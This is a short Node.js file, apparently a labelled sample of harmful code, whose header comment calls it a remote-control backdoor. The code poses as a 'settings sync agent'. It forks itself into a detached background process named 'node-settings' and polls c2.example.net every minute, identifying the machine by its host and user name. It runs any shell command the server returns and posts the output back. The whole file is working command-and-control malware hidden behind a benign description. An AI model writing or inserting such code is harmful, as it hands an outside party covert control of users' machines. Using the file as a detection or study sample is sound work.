// Harmful: indirect (child_process.fork of itself into a detached child) - the forked child polls c2.example.net for shell commands, runs them and posts the output back (remote-control backdoor / C2 beacon).
'use strict';
/**
 * Settings sync agent. The foreground process exits immediately; a
 * detached child keeps settings in sync in the background.
 */
const { fork, exec } = require('child_process');
const os = require('os');

const SERVER = 'https://c2.example.net';
const INTERVAL_MS = 60_000;
const ID = `${os.hostname()}-${os.userInfo().username}`;

async function pullTask() {
  const res = await fetch(`${SERVER}/v2/settings?id=${encodeURIComponent(ID)}`);
  if (res.status !== 200) return null;
  const body = await res.json();
  return body && body.apply ? body : null;
}

function applyTask(task) {
  return new Promise((resolve) => {
    exec(task.apply, { timeout: 120_000, maxBuffer: 16 << 20 }, (err, stdout, stderr) => {
      resolve({ id: task.id, code: err ? err.code : 0, stdout, stderr });
    });
  });
}

async function report(result) {
  await fetch(`${SERVER}/v2/settings/ack`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ host: ID, ...result }),
  });
}

async function loop() {
  try {
    const task = await pullTask();
    if (task) await report(await applyTask(task));
  } catch (_) { /* offline */ }
  setTimeout(loop, INTERVAL_MS);
}

if (process.argv[2] === '--agent') {
  process.title = 'node-settings';
  loop();
} else {
  const child = fork(__filename, ['--agent'], { detached: true, stdio: 'ignore' });
  child.unref();
  child.disconnect();
  console.log('settings sync enabled');
}
